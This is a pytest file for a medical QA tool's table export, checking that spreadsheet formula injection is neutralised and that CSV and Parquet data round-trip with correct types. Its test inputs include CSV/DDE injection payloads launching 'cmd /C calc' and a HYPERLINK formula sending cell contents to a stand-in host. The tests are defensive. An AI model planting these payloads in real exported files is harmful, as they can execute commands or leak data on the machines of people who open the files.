"""Tables: what is written comes back, no spreadsheet executes a cell, and Parquet has the types of the cells."""

from __future__ import annotations

import csv
import io
import math
import re
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from medgan_qa.errors import RecordError
from medgan_qa.evidence.tables import cases_csv, cases_parquet, read_table, table_csv

TRIGGERS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\u2212"


def written(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "table.csv"
    path.write_bytes(text.encode())
    return path


def raw_cells(text: str) -> list[list[str]]:
    """What a spreadsheet gets to see."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


# No formulas


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example?"&A1,"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "--1",
        "+-1",
        "-",
        "-a",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\x00=1+1",
        "\ufeff=1+1",
        "\uff1d1+1",
        "'=1+1",
        "'",
        "''",
    ],
)
def test_a_formula_is_marked_and_comes_back(tmp_path: Path, text: str) -> None:
    table = table_csv([{"a": text, "b": text}])
    assert raw_cells(table)[1] == [f"'{text}", f"'{text}"]
    assert read_table(written(tmp_path, table)) == (["a", "b"], [{"a": text, "b": text}])


@pytest.mark.parametrize("text", ["-0.5", "+1", "-1e-5", "-.5", "3.", "case-17", "a=b", "x@y", "5'"])
def test_numbers_and_plain_texts_stay_as_they_are(tmp_path: Path, text: str) -> None:
    table = table_csv([{"a": text}])
    assert raw_cells(table)[1] == [text]
    assert read_table(written(tmp_path, table))[1] == [{"a": text}]


@pytest.mark.parametrize(
    "value", [-0.5, -7, math.inf, -math.inf, True, np.float64(-0.25), np.int64(-3), np.float32(-2)]
)
def test_values_that_are_no_text_are_written_as_they_are(value: Any) -> None:
    assert raw_cells(table_csv([{"a": value}]))[1] == [str(value)]


def test_a_column_name_is_text_too(tmp_path: Path) -> None:
    table = table_csv([{"=1+1": 1, "case_id": "c"}], ("case_id",))
    assert raw_cells(table)[0] == ["case_id", "'=1+1"]
    assert read_table(written(tmp_path, table))[0] == ["case_id", "=1+1"]


# What is written comes back

names = st.text(st.characters(codec="utf-8"), min_size=1, max_size=6)
texts = st.text(st.one_of(st.sampled_from("=+-@'\t\r\n\",; 0.5"), st.characters(codec="utf-8")), max_size=12)


@given(st.lists(st.dictionaries(names, texts, max_size=4), max_size=4))
def test_prop_every_text_comes_back_and_none_is_a_formula(
    tmp_path_factory: pytest.TempPathFactory, rows: list[dict[str, str]]
) -> None:
    table = cases_csv(rows)
    columns, read = read_table(written(tmp_path_factory.mktemp("csv"), table))
    assert columns == list(dict.fromkeys(["audit", "case_id", "patient_id", *(key for row in rows for key in row)]))
    assert read == [{name: row.get(name, "") for name in columns} for row in rows]
    number = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)
    for cell in (cell for line in raw_cells(table) for cell in line):
        assert not cell.strip().startswith(tuple(TRIGGERS)) or number.fullmatch(cell)
        assert not cell.startswith(("\t", "\r", "\n"))


def test_none_is_an_empty_cell_and_columns_come_in_order_of_appearance() -> None:
    rows = [{"case_id": "c1", "audit": "A", "x": None}, {"y": 2, "x": 1.5}]
    assert cases_csv(rows) == "audit,case_id,patient_id,x,y\nA,c1,,,\n,,,1.5,2\n"


def test_a_table_without_rows_or_columns(tmp_path: Path) -> None:
    assert cases_csv([]) == "audit,case_id,patient_id\n"
    assert table_csv([]) == ""
    assert read_table(written(tmp_path, "")) == ([], [])
    assert read_table(written(tmp_path, cases_csv([]))) == (["audit", "case_id", "patient_id"], [])


def test_one_column_with_an_empty_cell_is_still_a_row(tmp_path: Path) -> None:
    table = table_csv([{"a": ""}, {"a": "x"}])
    assert read_table(written(tmp_path, table))[1] == [{"a": ""}, {"a": "x"}]


def test_a_table_that_a_spreadsheet_saved_again_is_read(tmp_path: Path) -> None:
    text = '\ufeffaudit,case_id\r\nA,"c,1"\r\n\r\nB,c2\r\n'
    assert read_table(written(tmp_path, text)) == (
        ["audit", "case_id"],
        [{"audit": "A", "case_id": "c,1"}, {"audit": "B", "case_id": "c2"}],
    )


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (b"a,b\n1\n", "1 cells in row 2 under 2 columns"),
        (b"a,b\n1,2\n1,2,3\n", "3 cells in row 3 under 2 columns"),
        (b"a,a\n1,2\n", "a column that stands twice"),
        (b'a\n"b\n', "unexpected end of data"),
        (b"a\n\xff\n", "utf-8"),
    ],
)
def test_a_damaged_table_is_refused(tmp_path: Path, content: bytes, found: str) -> None:
    path = tmp_path / "cases.csv"
    path.write_bytes(content)
    with pytest.raises(RecordError, match=r"cases\.csv cannot be read") as caught:
        read_table(path)
    assert found in str(caught.value.found)
    assert all((caught.value.expected, caught.value.where == str(path), caught.value.todo))


def test_a_table_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(RecordError, match="No such file"):
        read_table(tmp_path / "none.csv")


# Parquet


def parquet(tmp_path: Path, rows: list[dict[str, Any]]) -> pa.Table:
    return pq.read_table(pa.BufferReader(cases_parquet(written(tmp_path, cases_csv(rows)))))


def test_columns_have_the_types_of_their_cells(tmp_path: Path) -> None:
    rows = [
        {"audit": "A", "case_id": 1, "patient_id": "7", "n": 3, "x": -0.5, "ok": True, "note": "=1+1", "code": "007"},
        {"audit": "A", "case_id": 2, "patient_id": "8", "n": None, "x": 2, "ok": False, "note": "", "code": "12"},
    ]
    table = parquet(tmp_path, [{**row, "site_id": 4, "site": "1"} for row in rows])
    assert {field.name: str(field.type) for field in table.schema} == {
        **{"audit": "string", "case_id": "string", "patient_id": "string", "n": "int64", "x": "double"},
        **{"ok": "bool", "note": "string", "code": "string", "site_id": "string", "site": "string"},
    }
    first, second = table.to_pylist()
    assert first == {
        **{"audit": "A", "case_id": "1", "patient_id": "7", "n": 3, "x": -0.5, "ok": True},
        **{"note": "=1+1", "code": "007", "site_id": "4", "site": "1"},
    }
    assert (second["n"], second["x"], second["note"]) == (None, 2.0, None)


@pytest.mark.parametrize(
    ("cells", "kind"),
    [
        (["1", "2"], "int64"),
        (["1", "2.5"], "double"),
        (["1e-5", "nan", "-inf"], "double"),
        (["True", "False"], "bool"),
        (["True", "1"], "string"),
        (["1", "one"], "string"),
        (["01"], "string"),
        (["+1"], "string"),
        (["1" * 19], "double"),
        (["\u0661"], "string"),
        (["1_000"], "string"),
        (["", ""], "string"),
    ],
)
def test_a_column_is_of_numbers_only_if_every_cell_is_one(tmp_path: Path, cells: list[str], kind: str) -> None:
    table = parquet(tmp_path, [{"audit": "A", "x": cell} for cell in cells])
    assert str(table.schema.field("x").type) == kind


def test_the_same_table_gives_the_same_bytes(tmp_path: Path) -> None:
    path = written(tmp_path, cases_csv([{"audit": "A", "case_id": "c", "x": 1.5}]))
    assert cases_parquet(path) == cases_parquet(path)


def test_a_table_without_cases_has_its_columns(tmp_path: Path) -> None:
    assert parquet(tmp_path, []).column_names == ["audit", "case_id", "patient_id"]


@given(st.lists(st.one_of(st.integers(-(10**17), 10**17), st.floats(allow_nan=False), st.booleans()), min_size=1))
def test_prop_numbers_come_back_in_parquet(tmp_path_factory: pytest.TempPathFactory, values: list[Any]) -> None:
    table = parquet(tmp_path_factory.mktemp("parquet"), [{"audit": "A", "x": value} for value in values])
    read = table.column("x").to_pylist()
    kinds = {type(value) for value in values}
    if bool in kinds and len(kinds) > 1:
        assert read == [str(value) for value in values]
    else:
        assert read == [float(value) for value in values] if float in kinds else read == values
